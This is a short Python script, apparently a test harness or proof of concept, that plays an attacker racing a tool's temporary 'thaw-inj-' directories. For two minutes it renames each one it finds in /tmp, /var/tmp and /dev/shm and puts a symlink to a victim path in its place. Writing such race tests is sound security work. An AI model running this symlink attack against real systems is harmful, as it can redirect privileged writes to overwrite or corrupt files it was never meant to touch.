# An attacker running as the target's user, for 120 s: every injection directory that appears in a
# temporary directory is renamed away and replaced by a link to argv[1], the victim.
import os, sys, time
victim = sys.argv[1]
end = time.time() + 120
while time.time() < end:
    for t in ('/dev/shm', '/tmp', '/var/tmp'):
        try:
            names = os.listdir(t)
        except OSError:
            continue
        for n in names:
            if (n.startswith('thaw-inj-') or n.startswith('.thaw-new-')) and not n.endswith('.moved'):
                p = t + '/' + n
                try:
                    os.rename(p, p + '.moved')
                    os.symlink(victim, p)
                except OSError:
                    pass
